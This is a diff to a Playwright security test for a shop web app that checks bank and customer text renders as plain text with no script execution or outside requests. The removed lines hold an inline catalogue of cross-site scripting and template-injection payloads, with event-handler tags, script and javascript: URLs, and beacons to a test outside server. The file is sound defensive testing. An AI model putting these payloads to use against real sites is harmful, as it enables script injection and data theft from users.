@@ -3,6 +3,7 @@ import { once } from 'node:events';
 import type { AddressInfo } from 'node:net';
 import { expect, test, type Page } from 'playwright/test';
 import { mari } from '../people.ts';
+import { scriptsInWords } from '../rig/scripts-in-words.ts';
 import { aShop, setsUpShop, stopBanks, type AShop } from './a-shop.ts';
 import { closeAll, openCounter } from './counter.ts';
 import { anOutside } from './outside.ts';
@@ -13,70 +14,14 @@ test.afterEach(async () => {
   await stopBanks();
 });
 
-/** Each of them would set `taken`, or reach the outside, if a page made more of it than text. */
-/** Each of them as it is, in capitals, and behind the end of an attribute: what the bank may say in twenty sentences. */
-const inEveryDress = (payloads: readonly string[]): readonly string[] =>
-  payloads.flatMap((each) => [each, each.replaceAll(/<\w+/gu, (tag) => tag.toUpperCase()), `'>"${each}`]);
 const sentencesOf = (payloads: readonly string[]): readonly string[] =>
   Array.from({ length: 20 }, (_, place) => payloads.filter((_each, index) => index % 20 === place).join(' '));
 
-function payloadsAgainst(to: string): readonly string[] {
-  const run = `window.taken=1;new Image().src='${to}'`;
-  const tags = [
-    'img src=x',
-    'svg',
-    'body',
-    'iframe',
-    'video src=x',
-    'audio src=x',
-    'input autofocus',
-    'details open',
-    'marquee',
-    'object data=x',
-  ];
-  const events = [
-    'onerror',
-    'onload',
-    'onfocus',
-    'ontoggle',
-    'onstart',
-    'onpageshow',
-    'onanimationstart',
-    'onpointerover',
-  ];
-  return [
-    ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${run}">`)),
-    ...tags.map((tag) => `"><${tag} onerror=${run}>`),
-    ...tags.map((tag) => `</title></textarea></script><${tag} onload=${run}>`),
-    `<script>${run}</script>`,
-    `<script src="${to}a.js"></script>`,
-    `<svg><script>${run}</script></svg>`,
-    `<math><mtext></p><img src=x onerror="${run}">`,
-    `<template><img src=x onerror="${run}"></template>`,
-    `<style>@import "${to}a.css"</style>`,
-    `<link rel=stylesheet href="${to}a.css">`,
-    `<meta http-equiv=refresh content="0;url=${to}">`,
-    `<base href="${to}">`,
-    `<form action="${to}"><button>x</button></form>`,
-    `<a href="javascript:${run}">x</a>`,
-    `<a href="${to}" ping="${to}">x</a>`,
-    `javascript:${run}`,
-    `data:text/html,<script>${run}</script>`,
-    `\${${run}}`,
-    `{{constructor.constructor("${run}")()}}`,
-    `{{${run}}}`,
-    `$t(key, {"x": "${run}"})`,
-    `<%= ${run} %>`,
-    `\\u003cimg src=x onerror="${run}"\\u003e`,
-    `&lt;img src=x onerror="${run}"&gt;`,
-    `<1>${run}</1>`,
-    `<img src="${to}a.png">`,
-    `![x](${to}a.png) [x](javascript:${run})`,
-    `url(${to}a.png)`,
-    `<!--><img src=x onerror="${run}">-->`,
-    `<![CDATA[<img src=x onerror="${run}">]]>`,
-  ];
-}
+/** Each of them would set `taken`, or reach the outside, if a page made more of it than text. */
+const payloadsAgainst = (to: string): readonly string[] =>
+  scriptsInWords(`window.taken=1;new Image().src='${to}'`, to)
+    .filter((each) => !each.includes('\u0000'))
+    .filter((_each, index) => index % 12 === 0);
 
 /** Free text in the bank's answers; ids, states, codes and figures would only make an answer that is none. */
 const isWords = (key: string): boolean =>
@@ -152,7 +97,7 @@ const nothing = { taken: false, refused: [], elements: [], attributes: [] };
 test('S-01, S-02: whatever the bank or a customer writes is text on every page: no script runs, nothing is reached, no link', async () => {
   test.setTimeout(180_000);
   const outside = await anOutside();
-  const payloads = inEveryDress(payloadsAgainst(outside.address));
+  const payloads = payloadsAgainst(outside.address);
   expect(payloads.length).toBeGreaterThan(350);
   const { shop, close } = await aHostileShop(payloads);
   const { page } = await openCounter();
